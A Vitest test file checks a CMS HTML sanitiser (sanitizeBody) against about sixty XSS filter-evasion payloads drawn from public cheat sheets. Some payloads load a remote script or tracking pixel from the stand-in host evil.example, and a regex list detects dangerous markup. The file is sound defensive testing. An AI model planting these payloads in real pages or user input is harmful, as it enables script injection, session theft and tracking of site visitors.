import { describe, expect, it } from 'vitest';
import { sanitizeBody } from '../src/features/cms/sanitize';

/**
 * Payloads from the public XSS filter-evasion lists (OWASP cheat sheet, PortSwigger's cheat sheet):
 * script tags, event handlers, javascript: and data: links in their encodings, SVG and MathML
 * tricks, mutation XSS, CSS expressions, forms, frames, base and meta redirects.
 */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#x6A;avascript:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href="https://ok.example" onmouseover=alert(1)>x</a>',
  '<p onmouseover="alert(1)">hover</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1));">x</div>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<BASE HREF="javascript:alert(1);//">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<STYLE>@import "javascript:alert(1)";</STYLE>',
  '<style>*{background:url("https://evil.example/track")}</style>',
  '<TABLE BACKGROUND="javascript:alert(1)">',
  '<DIV STYLE="background-image: url(javascript:alert(1))">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '"><script>alert(1)</script>',
  '</p><script>alert(1)</script><p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/api/v1/cms/image/abc" onerror="alert(1)">',
  '<img src="/api/v1/cms/image/../../user/me">',
  '<img src="/api/v1/cms/image/a.png/../../x">',
  '<a href="//evil.example">x</a>',
  '<xss id=x tabindex=1 onfocusin=alert(1)></xss>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<x onclick=alert(1)>click</x>',
  '<a href="https://ok.example" target="_self" formaction="javascript:alert(1)">x</a>',
  '<h2 id="x" class="y" onclick="alert(1)">t</h2>',
];

/** What may never be in the output: a script element, an event handler, a script URL, a frame, a style. */
const DANGER = [
  /<script/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<svg/i,
  /<math/i,
  /<style/i,
  /style=/i,
  /<form/i,
  /<input/i,
  /<base/i,
  /<meta/i,
  /<link/i,
  /srcdoc/i,
];

describe('the CMS body sanitiser (allow-list)', () => {
  it.each(PAYLOADS)('neutralises %s', (payload) => {
    const out = sanitizeBody(payload);
    for (const d of DANGER) expect(out, `${payload} → ${out}`).not.toMatch(d);
    // Every image left is one of ours, and every link is http(s) or mailto.
    for (const m of out.matchAll(/<img[^>]*src="([^"]*)"/g)) expect(m[1]).toMatch(/^\/api\/v1\/cms\/image\/[A-Za-z0-9_-]+(\.[a-z0-9]+)?$/);
    for (const m of out.matchAll(/href="([^"]*)"/g)) expect(m[1]).toMatch(/^(https?:|mailto:)/);
  });

  it('keeps what the editor makes: headings, emphasis, lists, quotes, links and our own pictures', () => {
    const html =
      '<h2>Title</h2><p>Some <strong>bold</strong>, <em>italic</em>, <u>under</u>, <s>struck</s> and <code>code</code>.</p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol><blockquote><p>quoted</p></blockquote><hr>' +
      '<p><a href="https://lingbridge.example/read">read</a></p><p><img src="/api/v1/cms/image/AbC_12-x" alt="a map"></p>';
    const out = sanitizeBody(html);
    for (const part of [
      '<h2>Title</h2>',
      '<strong>bold</strong>',
      '<em>italic</em>',
      '<u>under</u>',
      '<s>struck</s>',
      '<code>code</code>',
      '<li>one</li>',
      '<blockquote>',
      '<hr />',
    ])
      expect(out).toContain(part);
    expect(out).toContain('<a href="https://lingbridge.example/read" rel="noopener noreferrer nofollow" target="_blank">read</a>');
    expect(out).toContain('<img src="/api/v1/cms/image/AbC_12-x" alt="a map" />');
  });

  it('keeps the text of markup it drops, and drops the content of code', () => {
    expect(sanitizeBody('<div><span>kept text</span></div>')).toBe('kept text');
    expect(sanitizeBody('<p>a<script>bad()</script>b</p>')).toBe('<p>ab</p>');
  });
});
